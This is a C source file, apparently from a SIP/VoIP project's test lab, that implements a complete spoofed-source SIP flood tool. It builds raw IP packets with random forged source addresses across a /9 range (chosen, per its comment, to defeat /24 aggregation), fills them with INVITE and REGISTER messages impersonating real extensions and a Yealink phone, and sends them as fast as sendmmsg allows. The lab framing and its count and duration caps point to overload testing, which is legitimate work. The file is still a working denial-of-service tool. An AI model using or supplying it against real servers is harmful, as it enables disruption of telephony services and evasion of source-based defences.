// SPDX-License-Identifier: GPL-2.0-or-later
// Spoofed-source SIP flood for the lab's overload scenario (issue 20): UDP
// datagrams to DST:5060 from random addresses of a prefix (e.g. a /9, so that
// no /24 aggregation applies), each an INVITE naming a real user in From or a
// REGISTER naming one in To, with a phone's User-Agent. As fast as sendmmsg
// goes, bounded by --seconds and --count. Raw socket (IPPROTO_RAW implies
// IP_HDRINCL; the kernel fills the IP checksum; UDP checksum 0 = none, RFC 768).
// Built by tools/lab/overload.sh with cc; prints "sent N in S s (R pps)".
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PKT 1400

static double now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint32_t next_rand(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 16);
}

int main(int argc, char** argv)
{
	const char *dst = NULL, *net = "10.128.0.0";
	int bits = 9;
	double seconds = 20, rate = 0;
	unsigned long long count = 5000000ULL;
	for (int i = 1; i + 1 < argc; i += 2) {
		if (!strcmp(argv[i], "--dst")) dst = argv[i + 1];
		else if (!strcmp(argv[i], "--net")) net = argv[i + 1];
		else if (!strcmp(argv[i], "--bits")) bits = atoi(argv[i + 1]);
		else if (!strcmp(argv[i], "--seconds")) seconds = atof(argv[i + 1]);
		else if (!strcmp(argv[i], "--count")) count = strtoull(argv[i + 1], NULL, 10);
		else if (!strcmp(argv[i], "--rate")) rate = atof(argv[i + 1]);
		else { fprintf(stderr, "spoof_flood: unknown option %s\n", argv[i]); return 2; }
	}
	if (!dst || bits < 8 || bits > 30 || seconds <= 0 || seconds > 120 || count == 0 || count > 100000000ULL) {
		fprintf(stderr, "usage: spoof_flood --dst ADDR [--net 10.128.0.0 --bits 9] [--seconds S<=120] [--count N] [--rate PPS]\n");
		return 2;
	}
	struct in_addr d, n;
	if (inet_pton(AF_INET, dst, &d) != 1 || inet_pton(AF_INET, net, &n) != 1) {
		fprintf(stderr, "spoof_flood: bad address\n");
		return 2;
	}
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) { perror("spoof_flood: socket"); return 1; }
	int big = 8 << 20;
	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &big, sizeof big);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = d};
	static char bufs[BATCH][PKT];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	const uint32_t base = ntohl(n.s_addr) & ~((1u << (32 - bits)) - 1), span = (1u << (32 - bits)) - 1;
	rng ^= (uint64_t)getpid() * 0x100000001b3ull;
	unsigned long long sent = 0, seq = 0;
	const double t0 = now_s(), end = t0 + seconds;
	while (sent < count) {
		double t = now_s();
		if (t >= end) break;
		if (rate > 0 && (double)sent > (t - t0) * rate) { usleep(200); continue; }
		unsigned k = 0;
		for (; k < BATCH && sent + k < count; ++k, ++seq) {
			uint32_t src = base | (next_rand() & span);
			if ((src & 0xff) == 0 || (src & 0xff) == 0xff) src ^= 1;
			char sip[64];
			snprintf(sip, sizeof sip, "%u.%u.%u.%u", src >> 24, (src >> 16) & 255, (src >> 8) & 255, src & 255);
			const unsigned user = 100 + (unsigned)(seq % 10);
			char* p = bufs[k] + sizeof(struct iphdr) + sizeof(struct udphdr);
			const int invite = (int)(seq & 1);
			char ruri[64], to_user[16];
			if (invite)
				snprintf(ruri, sizeof ruri, "INVITE sip:200@%s", dst);
			else
				snprintf(ruri, sizeof ruri, "REGISTER sip:%s", dst);
			snprintf(to_user, sizeof to_user, "%u", invite ? 200u : user);
			const int len = snprintf(p, PKT - 28,
			                         "%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bK-f%llx;rport\r\n"
			                         "Max-Forwards: 70\r\nFrom: <sip:%u@%s>;tag=f%llx\r\nTo: <sip:%s@%s>\r\n"
			                         "Call-ID: fl%llx@%s\r\nCSeq: 1 %s\r\nContact: <sip:%u@%s:5060>\r\n%s"
			                         "User-Agent: Yealink SIP-T46S 66.86.0.15\r\nContent-Length: 0\r\n\r\n",
			                         ruri, sip, seq, user, dst, seq, to_user, dst, seq, sip,
			                         invite ? "INVITE" : "REGISTER", user, sip, invite ? "" : "Expires: 3600\r\n");
			struct iphdr* ip = (struct iphdr*)bufs[k];
			memset(ip, 0, sizeof *ip);
			ip->ihl = 5;
			ip->version = 4;
			ip->ttl = 64;
			ip->protocol = IPPROTO_UDP;
			ip->tot_len = htons((uint16_t)(sizeof(struct iphdr) + sizeof(struct udphdr) + (size_t)len));
			ip->saddr = htonl(src);
			ip->daddr = d.s_addr;
			struct udphdr* u = (struct udphdr*)(bufs[k] + sizeof *ip);
			u->source = htons(5060);
			u->dest = htons(5060);
			u->len = htons((uint16_t)(sizeof *u + (size_t)len));
			u->check = 0;
			iov[k].iov_base = bufs[k];
			iov[k].iov_len = sizeof *ip + sizeof *u + (size_t)len;
			memset(&msgs[k], 0, sizeof msgs[k]);
			msgs[k].msg_hdr.msg_name = &to;
			msgs[k].msg_hdr.msg_namelen = sizeof to;
			msgs[k].msg_hdr.msg_iov = &iov[k];
			msgs[k].msg_hdr.msg_iovlen = 1;
		}
		int r = sendmmsg(fd, msgs, k, 0);
		if (r > 0) sent += (unsigned long long)r;
	}
	const double s = now_s() - t0;
	printf("sent %llu in %.2f s (%.0f pps)\n", sent, s, s > 0 ? (double)sent / s : 0);
	close(fd);
	return 0;
}
